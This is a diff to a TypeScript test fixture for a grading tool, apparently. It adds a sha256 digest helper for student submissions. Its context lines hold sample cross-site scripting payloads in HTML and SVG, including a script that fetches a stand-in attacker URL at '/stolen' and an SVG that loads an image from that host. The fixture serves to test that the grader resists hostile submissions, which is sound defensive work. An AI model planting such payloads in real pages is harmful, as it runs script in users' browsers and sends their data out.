@@ -1,4 +1,5 @@
 /** A course of three students and one assignment, for tests: one of the three hands in whatever might run in a teacher's browser. */
+import { createHash } from "node:crypto";
 import { mkdirSync, mkdtempSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
@@ -50,6 +51,11 @@ const HOSTILE_HTML = `<script>window.top.pwned = 1; fetch("${ATTACKER}/stolen")<
 
 const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40"><script>window.top.pwned=1</script><image href="${ATTACKER}/pixel.png"/><rect width="80" height="40" fill="red" onload="window.top.pwned=1"/></svg>`;
 
+/** Digest of a student's submission, as far as these tests need one: it does not say whose it is. */
+export function digestOf(student: string): string {
+  return createHash("sha256").update(student).digest("hex");
+}
+
 /** Makes the folder and gives its path. */
 export function makeTinyCourse(): string {
   const folder = mkdtempSync(join(tmpdir(), "gradlab-tiny-course-"));
@@ -69,7 +75,7 @@ export function makeTinyCourse(): string {
       ...{
         assignment: TINY,
         max: 7,
-        submission: { file: `${TINY}.ipynb`, sha256: `${student}${"0".repeat(20)}`, bytes: 1 },
+        submission: { file: `${TINY}.ipynb`, sha256: digestOf(student), bytes: 1 },
       },
     });
     book.keep(`key-${student}`, result, [], received);
